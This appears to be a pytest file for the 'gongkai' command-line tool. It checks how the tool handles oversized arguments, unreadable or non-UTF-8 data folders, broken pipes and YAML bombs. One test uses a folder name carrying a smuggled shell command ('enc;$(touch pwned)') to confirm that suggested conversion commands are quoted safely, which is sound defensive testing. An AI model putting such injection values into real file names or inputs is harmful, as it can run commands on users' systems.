            ["due", "--today", HUGE], f"错误：--today 的日期“{HUGE[:9]}", id="due-today", marks=pytest.mark.stress
        ),
        pytest.param(["section", HUGE], "错误：本表只有十一个部分。", id="section", marks=pytest.mark.stress),
        pytest.param(["show", HUGE], f"错误：“{HUGE[:9]}", id="show"),
        pytest.param(["unit", HUGE], f"错误：未找到“{HUGE[:9]}", id="unit", marks=pytest.mark.stress),
    ],
)
def test_argument_of_5000_digits_is_a_usage_error(tmp_path: Path, args: list[str], opening: str) -> None:
    expect(gongkai(tmp_path, "--data", str(DATA), *args), 2, opening)


@pytest.fixture
def non_utf8_data(tmp_path: Path) -> bytes:
    folder = os.fsencode(tmp_path) + b"/\xff\xfe-data"
    copy_data(Path(os.fsdecode(folder)))
    return folder


@pytest.mark.parametrize("fmt", ["table", "json", "csv", "md"])
def test_data_folder_name_that_is_not_utf8(tmp_path: Path, non_utf8_data: bytes, fmt: str) -> None:
    ran = gongkai(tmp_path, b"--data", non_utf8_data, b"units", b"-f", fmt.encode())
    expect(ran, 0)
    assert "市司法局" in ran.stdout
    if fmt == "table":
        assert "\\xff\\xfe-data" in ran.stdout


def test_check_names_a_folder_that_is_not_utf8(tmp_path: Path, non_utf8_data: bytes) -> None:
    expect(gongkai(tmp_path, b"check", non_utf8_data), 0, "\\xff\\xfe-data", "未发现问题")


def _probe(preexec: Callable[[], None], cwd: Path, unreadable: Path) -> bool:
    """True when a child started with `preexec` runs gongkai's interpreter and is refused `unreadable`."""
    script = "import gongkai_cli, sys; open(sys.argv[1]).close()"
    try:
        proc = subprocess.run(
            [sys.executable, "-c", script, str(unreadable)],
            cwd=cwd,
            preexec_fn=preexec,
            capture_output=True,
            timeout=TIMEOUT,
        )
    except OSError:
        return False
    return proc.returncode != 0 and b"PermissionError" in proc.stderr


def _as_nobody() -> None:
    os.setgroups([])
    os.setgid(UNOWNED_UID)
    os.setuid(UNOWNED_UID)


def _without_permission_override() -> None:
    # Root without CAP_DAC_OVERRIDE (1) and CAP_DAC_READ_SEARCH (2) obeys file modes like anyone else;
    # dropped from the bounding set, they are gone from the program this child executes.
    prctl = ctypes.CDLL(None, use_errno=True).prctl
    for capability in (1, 2):
        if prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "PR_CAPBSET_DROP")


@contextlib.contextmanager
def permissions_enforced(cwd: Path, unreadable: Path) -> Iterator[Callable[[], None] | None]:
    """A preexec function under which file modes apply to the child (None: they apply already); else skip."""
    if os.geteuid() != 0:
        yield None
        return
    if _probe(_as_nobody, cwd, unreadable):
        yield _as_nobody
    elif _probe(_without_permission_override, cwd, unreadable):
        yield _without_permission_override
    else:
        pytest.skip("cannot run a child that root's permission override does not cover")


@pytest.fixture
def locked_data() -> Iterator[Path]:
    """A world-readable scratch folder whose data folder (files readable) has mode 0."""
    with tempfile.TemporaryDirectory() as scratch:
        root = Path(scratch)
        root.chmod(0o755)
        data = copy_data(root / "data")
        for path in data.iterdir():
            path.chmod(0o644)
        data.chmod(0)
        try:
            yield data
        finally:
            data.chmod(0o755)


@pytest.mark.parametrize(
    ("args", "fragments"),
    [
        pytest.param(["check", "data/tasks.yaml"], ("data/tasks.yaml", "没有权限"), id="check-file"),
        pytest.param(["check", "data"], ("“data”", "不可读"), id="check-folder"),
        pytest.param(["--data", "data", "units"], ("--data", "“data”", "不可读"), id="query"),
    ],
)
def test_data_folder_without_permissions(locked_data: Path, args: list[str], fragments: tuple[str, ...]) -> None:
    cwd = locked_data.parent
    with permissions_enforced(cwd, locked_data / "tasks.yaml") as then:
        ran = gongkai(cwd, *args, env=child_env(cwd, GONGKAI_CACHE_DIR="off"), then=then)
    expect(ran, 2, *fragments)


@pytest.mark.parametrize("fmt", FORMATS)
def test_closed_stdout(tmp_path: Path, fmt: str) -> None:
    ran = gongkai(tmp_path, "--data", str(DATA), "units", "-f", fmt, stdout=None, then=lambda: os.close(1))
    expect(ran, 1, "标准输出已关闭")


@pytest.mark.parametrize("fmt", formats())
def test_full_disk(tmp_path: Path, fmt: str) -> None:
    with open("/dev/full", "wb") as full:
        ran = gongkai(tmp_path, "--data", str(DATA), "units", "-f", fmt, stdout=full)
    expect(ran, 1, "磁盘已满")
    assert "Exception ignored" not in ran.stderr


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
@pytest.mark.parametrize("fmt", formats())
def test_narrow_console_encoding_still_writes_utf8(tmp_path: Path, encoding: str, fmt: str) -> None:
    ran = gongkai(tmp_path, "--data", str(DATA), "units", "-f", fmt, env=child_env(tmp_path, PYTHONIOENCODING=encoding))
    expect(ran, 0)
    assert "市司法局" in ran.out.decode("utf-8")


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_narrow_console_encoding_still_prints_problems(tmp_path: Path, data_copy: Path, encoding: str) -> None:
    path = data_copy / "tasks.yaml"
    edit(path, "- number: 44\n", "- number: 4400\n")
    ran = gongkai(tmp_path, "check", "data", env=child_env(tmp_path, PYTHONIOENCODING=encoding))
    expect(ran, 1)
    assert ran.out.decode("utf-8") == ran.stdout
    problem_line(ran, f"data/tasks.yaml:{line_of(path, 'number: 4400')}:", "4400")


@pytest.mark.parametrize(
    "content",
    [
        # Ten thousand brackets take the pure-Python parser seconds to refuse: a stress case, run in the deep profile.
        pytest.param("[" * 10_000, id="flow", marks=pytest.mark.stress),
        pytest.param(deep_mapping(2_000), id="block"),
    ],
)
def test_pure_python_loader_refuses_deep_nesting(
    data_copy: Path, monkeypatch: pytest.MonkeyPatch, content: str
) -> None:
    monkeypatch.delattr(yaml, "CSafeLoader", raising=False)
    (data_copy / "tasks.yaml").write_text(content, encoding="utf-8")
    [(_, division, problems)] = load.check_folder(data_copy)
    assert division is None
    assert [p.path.name for p in problems] == ["tasks.yaml"]
    with pytest.raises(DataError):
        load.load_data(data_copy, use_cache=False)


def test_pure_python_loader_refuses_the_alias_bomb(data_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delattr(yaml, "CSafeLoader", raising=False)
    (data_copy / "tasks.yaml").write_text(schema_shaped_bomb(), encoding="utf-8")
    start = time.process_time()
    [(_, _, problems)] = load.check_folder(data_copy)
    assert time.process_time() - start < BOMB_QUICK
    assert ["别名（*）展开后会多出" in p.message for p in problems] == [True]


# `gongkai ... | head -1` and `gongkai ... | true`: the reader goes away early. That is not an error: exit 0.
# Each scenario is deterministic: the reader is gone before the first byte, or leaves after one line of an answer
# that fits in the pipe in one write (the bundled data), or of one several times larger than a pipe holds.


@pytest.fixture(scope="module")
def long_roster(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Data whose `units` answer is several times larger than a pipe holds, in every format."""
    folder = copy_data(tmp_path_factory.mktemp("roster") / "data")
    add_units(folder, unit_entries(*(f"测试局{i:04d}{'甲' * 60}" for i in range(700)), kind="office"))
    return folder


@pytest.fixture(scope="module")
def roster_cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return private_folder(tmp_path_factory.mktemp("roster-cache") / "cache")


def reader_leaving(cwd: Path, args: Sequence[str], env: dict[str, str], *, after_lines: int) -> Ran:
    """Run gongkai with stdout to a pipe whose reader closes it after reading `after_lines` lines (0: at once)."""
    start = children_cpu()
    with tempfile.TemporaryFile() as err:
        if after_lines == 0:
            read_end, write_end = os.pipe()
            os.close(read_end)
            try:
                proc = subprocess.Popen(
                    command(*args), cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=write_end, stderr=err,
                    preexec_fn=_limited(None),
                )  # fmt: skip
            finally:
                os.close(write_end)
            read = b""
        else:
            proc = subprocess.Popen(
                command(*args), cwd=cwd, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=err,
                preexec_fn=_limited(None),
            )  # fmt: skip
            assert proc.stdout is not None
            read = b"".join(proc.stdout.readline() for _ in range(after_lines))
            proc.stdout.close()
        try:
            code = proc.wait(timeout=TIMEOUT)
        finally:
            proc.kill()
        err.seek(0)
        return Ran(code, read, err.read(), children_cpu() - start)


@pytest.mark.parametrize(
    ("after_lines", "size", "unbuffered", "fmt"),
    [
        *[pytest.param(0, "small", False, fmt, id=f"gone-at-once-{fmt}", marks=by_default(fmt)) for fmt in FORMATS],
        *[pytest.param(1, "small", False, fmt, id=f"one-line-small-{fmt}", marks=by_default(fmt)) for fmt in FORMATS],
        # A large answer, where the reader leaves mid-write: every format in every run.
        *[pytest.param(1, "large", False, fmt, id=f"one-line-large-{fmt}") for fmt in FORMATS],
        *[
            pytest.param(1, "large", True, fmt, id=f"one-line-large-unbuffered-{fmt}", marks=by_default(fmt))
            for fmt in FORMATS
        ],
    ],
)
def test_reader_going_away_is_not_an_error(
    tmp_path: Path, long_roster: Path, roster_cache: Path, after_lines: int, size: str, unbuffered: bool, fmt: str
) -> None:
    # The small answer is the bundled data's, found without --data: a table then needs no second write for
    # the line that names the data folder.
    args = ["units", "-f", fmt] if size == "small" else ["--data", str(long_roster), "units", "-f", fmt]
    settings = {"GONGKAI_CACHE_DIR": str(roster_cache)}
    if unbuffered:
        settings["PYTHONUNBUFFERED"] = "1"
    ran = reader_leaving(tmp_path, args, child_env(tmp_path, **settings), after_lines=after_lines)
    expect(ran, 0)
    assert ran.stderr == ""
    if after_lines:
        assert ran.out.strip(), "not even the first line arrived"


# --- 9. names that collide once normalised ---------------------------------------------------------------


def test_name_with_a_space_is_refused(tmp_path: Path, data_copy: Path) -> None:
    add_units(data_copy, unit_entries("市 司法局"))
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    problem_line(ran, f"data/units.yaml:{line_of(data_copy / 'units.yaml', '市 司法局')}:", "空格")


def test_full_width_twin_of_a_name_is_refused(tmp_path: Path, data_copy: Path) -> None:
    add_units(data_copy, unit_entries("AB局", "ＡＢ局"))
    path = data_copy / "units.yaml"
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    problem_line(ran, f"data/units.yaml:{line_of(path, 'ＡＢ局')}:", "“AB局”", f"第 {line_of(path, ' AB局')} 行")


def test_name_with_a_zero_width_space_is_refused(tmp_path: Path, data_copy: Path) -> None:
    add_units(data_copy, unit_entries('"市司\\u200b法局"'))
    path = data_copy / "units.yaml"
    ran = gongkai(tmp_path, "check", "data")
    expect(ran, 1)
    line = line_of(path, r"\u200b")
    problem_line(ran, f"data/units.yaml:{line}:", "零宽空格 U+200B")
    assert "\u200b" not in ran.output


# --- 10. encodings other than UTF-8 ----------------------------------------------------------------------

HOSTILE_FOLDER = "enc;$(touch pwned)"


def advice(ran: Ran) -> list[str]:
    """The shell command the message suggests, split the way a POSIX shell would split it."""
    line = problem_line(ran, f"{HOSTILE_FOLDER}/tasks.yaml:1: ", "iconv")
    return shlex.split(line.split("或运行：", 1)[1])


ENCODINGS = {
    "utf-16-with-bom": ("utf-16", "UTF-16"),
    "utf-16-le-without-bom": ("utf-16-le", "UTF-16"),
    "gbk": ("gbk", "GBK"),
}


@pytest.mark.parametrize(("codec", "named"), ENCODINGS.values(), ids=ENCODINGS.keys())
def test_file_not_in_utf8_says_how_to_convert(tmp_path: Path, codec: str, named: str) -> None:
    folder = copy_data(tmp_path / HOSTILE_FOLDER)
    path = folder / "tasks.yaml"
    path.write_bytes(_TASKS_TEXT.encode(codec, errors="replace"))
    ran = gongkai(tmp_path, "check", HOSTILE_FOLDER)
    expect(ran, 1, named)
    assert "记事本" in ran.stdout or "WPS" in ran.stdout
    target = f"{HOSTILE_FOLDER}/tasks.yaml"
    converted = target + ".utf8"
    assert advice(ran) == ["iconv", "-f", named, "-t", "UTF-8", target, ">", converted, "&&", "mv", converted, target]
    assert shlex.quote(target) in ran.stdout
    expect(gongkai(tmp_path, "--data", HOSTILE_FOLDER, "units"), 1, shlex.quote(HOSTILE_FOLDER))
    if codec == "utf-16" and shutil.which("iconv"):
        suggested = ran.stdout.split("或运行：", 1)[1].splitlines()[0]
        subprocess.run(["sh", "-c", suggested], cwd=tmp_path, check=True, timeout=TIMEOUT)
        expect(gongkai(tmp_path, "check", HOSTILE_FOLDER), 0)
    assert not list(tmp_path.rglob("pwned")), "the suggested command ran a command hidden in the folder name"


# --- 11. data folders that do not exist ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "env"),
    [
        pytest.param(["--data", "{missing}", "units"], {}, id="data-option"),
        pytest.param(["check", "{missing}"], {}, id="check-argument"),
        pytest.param(["units"], {"GONGKAI_DATA": "{missing}"}, id="environment"),
    ],
)
def test_missing_data_folder_is_a_usage_error(tmp_path: Path, args: list[str], env: dict[str, str]) -> None:
    missing = str(tmp_path / "nonexistent")
    settings = {name: value.format(missing=missing) for name, value in env.items()}
    ran = gongkai(tmp_path, *(arg.format(missing=missing) for arg in args), env=child_env(tmp_path, **settings))
    expect(ran, 2, missing, "不存在")
